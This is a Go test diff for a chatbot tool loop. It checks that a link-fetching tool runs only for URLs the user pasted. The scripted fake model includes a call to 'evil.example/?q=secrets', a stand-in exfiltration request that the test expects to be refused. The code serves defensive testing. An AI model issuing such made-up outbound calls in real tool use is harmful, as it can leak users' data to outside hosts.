@@ -264,3 +264,25 @@ type toollessLLM struct{ *memLLM }
 var _ bots.ToolTaker = toollessLLM{}
 
 func (toollessLLM) TakesTools(string) bool { return false }
+
+// TestToolLoopFetchesOnlyPastedLinks: a tool limited to pasted links
+// runs for a URL in the question, not for one the model made up.
+func TestToolLoopFetchesOnlyPastedLinks(t *testing.T) {
+	kb := kbTools()
+	m := newMemLLM(
+		script{calls: []bots.ToolCall{
+			call("c1", "kb__search", `{"url":"https://docs.example/page/"}`),
+			call("c2", "kb__search", `{"url":"https://evil.example/?q=secrets"}`),
+		}},
+		script{tokens: []string{"Read it."}},
+	)
+	h := newMemHarness(t, m, withTools(t, kb, func(o *engine.ToolOptions) { o.PastedLinksOnly = []string{"kb__search"} }))
+	h.ask(t, "what does https://docs.example/page say?")
+	if kb.ran("kb__search") != 1 {
+		t.Fatalf("ran %d times, want only for the pasted link", kb.ran("kb__search"))
+	}
+	msgs := m.requests()[1].Messages
+	if last := msgs[len(msgs)-1]; last.ToolCallID != "c2" || !strings.Contains(last.Content, "only reads links a person posted") {
+		t.Fatalf("the made-up link's result %+v", last)
+	}
+}
